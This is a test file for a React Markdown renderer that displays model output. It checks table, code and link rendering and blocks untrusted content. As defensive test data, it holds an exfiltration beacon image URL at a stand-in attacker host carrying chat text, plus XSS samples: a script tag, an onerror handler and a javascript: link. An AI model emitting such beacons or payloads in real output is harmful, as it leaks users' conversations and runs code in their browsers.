import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { MarkdownRender as Markdown } from "./markdown-render";

const render = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));

describe("Markdown", () => {
  it("renders GFM tables, highlighted code with a copy button, and inline images", () => {
    const html = render("| 城市 | 温度 |\n| --- | --- |\n| 北京 | 20 |\n\n```js\nconst a = 1;\n```\n\n![图](/a.png)");
    expect(html).toContain("<table>");
    expect(html).toContain("<td>北京</td>");
    expect(html).toContain('class="hljs language-js"');
    expect(html).toContain('<span class="hljs-keyword">const</span>');
    expect(html).toContain('aria-label="复制代码"');
    expect(html).toMatch(/<img src="\/a.png" alt="图" loading="lazy"\/>/);
  });

  it("opens links in a new tab without handing over the window", () => {
    const html = render("[文档](https://example.com/docs)");
    expect(html).toContain('href="https://example.com/docs"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });

  it("shows an outside image as a link to it, never fetching it; our own files stay images", () => {
    const html = render("![秘密](https://evil.example/beacon.png?q=chat-text)\n\n![文件](/api/file/download/k1?sig=a)");
    expect(html).not.toContain('evil.example/beacon.png?q=chat-text" alt');
    expect(html).not.toMatch(/<img[^>]*evil\.example/);
    expect(html).toContain(
      '<a href="https://evil.example/beacon.png?q=chat-text" title="秘密" target="_blank" rel="noopener noreferrer nofollow">https://evil.example/beacon.png?q=chat-text</a>',
    );
    expect(html).toMatch(/<img src="\/api\/file\/download\/k1\?sig=a" alt="文件" loading="lazy"\/>/);
  });

  it.each(["//evil.example/a.png", "http://evil.example/a.png", "HTTPS://EVIL.example/a.png"])(
    "never loads %s as an image",
    (src) => {
      expect(render(`![x](${src})`)).not.toContain("<img");
    },
  );

  it("never renders raw HTML or script URLs from model output", () => {
    const html = render('<script>alert(1)</script><img src=x onerror="alert(1)">\n\n[点我](javascript:alert(1))');
    expect(html).not.toContain("<script");
    expect(html).not.toContain("onerror");
    expect(html).not.toContain("javascript:");
  });
});

describe("Markdown on the server", () => {
  it("renders the full Markdown in one pass once preloaded, so pages without JavaScript never get the plain fallback", async () => {
    const { Markdown: SplitMarkdown, preloadMarkdown } = await import("./markdown");
    await preloadMarkdown();
    const html = renderToStaticMarkup(createElement(SplitMarkdown, { text: "**粗体** 与 `代码`" }));
    expect(html).toContain("<strong>粗体</strong>");
    expect(html).not.toContain("whitespace-pre-wrap");
  });
});
